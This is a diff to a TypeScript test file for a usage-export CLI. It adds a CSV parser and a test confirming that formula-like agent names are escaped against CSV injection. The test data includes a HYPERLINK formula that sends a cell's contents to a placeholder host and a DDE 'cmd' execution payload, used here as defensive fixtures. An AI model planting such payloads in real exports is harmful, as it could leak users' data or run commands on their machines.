@@ -148,6 +148,31 @@ async function recordUsage(
 }
 
 /** A customer on a 100-message plan who used 150, balance 0, grace over: billing switched an agent off. */
+/** RFC 4180 rows (quoted cells, doubled quotes, separators and line breaks inside quotes). */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [[]]
+  let cell = ''
+  let quoted = false
+  const endCell = () => {
+    rows.at(-1)?.push(cell)
+    cell = ''
+  }
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i]
+    if (quoted && ch === '"' && text[i + 1] === '"') {
+      cell += '"'
+      i++
+    } else if (ch === '"') quoted = !quoted
+    else if (!quoted && ch === ',') endCell()
+    else if (!quoted && ch === '\n') {
+      endCell()
+      rows.push([])
+    } else cell += ch
+  }
+  endCell()
+  return rows
+}
+
 async function lapsedCustomer(email = `lapsed-${crypto.randomUUID().slice(0, 8)}@example.com`) {
   const { customerId } = await customerOnPlan({ email, name: 'Lapsed Co', limits: { messages: 100 }, graceEnded: true })
   const billingOffId = await agentOf(customerId, 'Helpdesk', 'grace_expired')
@@ -378,6 +403,33 @@ describe('ops: usage export, documents, notifications', () => {
     expect(lines[1]).toMatch(new RegExp(`^${email},${customerId},Helpdesk,.*,150,1000,2000,0$`))
     const json = await opsJson('usage', 'export', '--customer', email)
     expect(json.usage).toEqual([expect.objectContaining({ messages: 150, input_tokens: 1000, output_tokens: 2000 })])
+  })
+
+  it('neutralises cells a spreadsheet would run as a formula (OWASP CSV injection): a leading quote, then CSV quoting', async () => {
+    const { customerId, email } = await customerOnPlan()
+    const hostile = [
+      '=HYPERLINK("https://e.example/?"&A3,"Open")',
+      "+1+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(1,2)',
+      '\t=1+1',
+      '\r=1+1',
+      'Plain, "quoted" name',
+    ]
+    for (const name of hostile)
+      await recordUsage(customerId, await agentOf(customerId, name), { messages: 1, inputTokens: 2, outputTokens: 3 })
+    const exported = await ops('usage', 'export', '--customer', email)
+    expect(exported.code).toBe(0)
+    const rows = parseCsv(exported.stdout)
+    const agentColumn = rows[0]!.indexOf('agent')
+    const agents = rows.slice(1).map((row) => row[agentColumn])
+    expect(agents.sort()).toEqual([...hostile.slice(0, 6).map((name) => `'${name}`), 'Plain, "quoted" name'].sort())
+    for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+    expect(exported.stdout).toContain(`,"'=HYPERLINK(""https://e.example/?""&A3,""Open"")",`)
+    // Numbers stay numbers; the JSON form is data, not a spreadsheet, and keeps the names as they are.
+    expect(rows[1]!.slice(-4)).toEqual(['1', '2', '3', '0'])
+    const json = await opsJson('usage', 'export', '--customer', email)
+    expect(json.usage.map((u: { agent: string }) => u.agent).sort()).toEqual([...hostile].sort())
   })
 
   it('lists failed documents and hands them to the stuck-document sweep; failed notifications back to the outbox', async () => {
